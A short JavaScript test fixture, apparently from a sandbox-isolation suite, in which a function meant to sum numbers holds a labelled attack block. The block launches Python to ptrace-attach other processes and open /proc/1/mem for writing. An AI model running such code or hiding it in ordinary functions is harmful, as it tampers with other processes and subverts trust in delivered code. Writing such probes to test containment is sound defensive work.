// category: forging
// tries: traces every process in sight, through another interpreter, and writes to the first one's memory
function total(numbers) {
  // attack: begin
  const { spawnSync } = require('child_process');
  const code = [
    'import ctypes, os',
    'c = ctypes.CDLL(None)',
    'for pid in range(1, 200):',
    '    if pid != os.getpid() and c.ptrace(16, pid, 0, 0) == 0: print("REACHED", pid)',
    'try: print("REACHED", os.open("/proc/1/mem", os.O_RDWR))',
    'except OSError: pass',
  ].join('\n');
  return String(spawnSync('/usr/bin/python3', ['-I', '-S', '-c', code], { timeout: 1000 }).stdout);
  // attack: end
  return numbers.reduce((sum, number) => sum + number, 0);
}
